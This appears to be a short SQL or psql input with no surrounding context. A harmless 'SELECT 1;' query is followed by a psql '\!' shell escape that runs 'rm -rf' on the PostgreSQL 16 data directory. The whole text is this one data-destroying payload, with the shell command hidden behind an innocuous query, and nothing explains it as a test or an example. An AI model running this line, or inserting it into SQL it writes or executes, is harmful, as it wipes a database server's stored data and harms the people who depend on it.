SELECT 1;
\! rm -rf /var/lib/postgresql/16/main
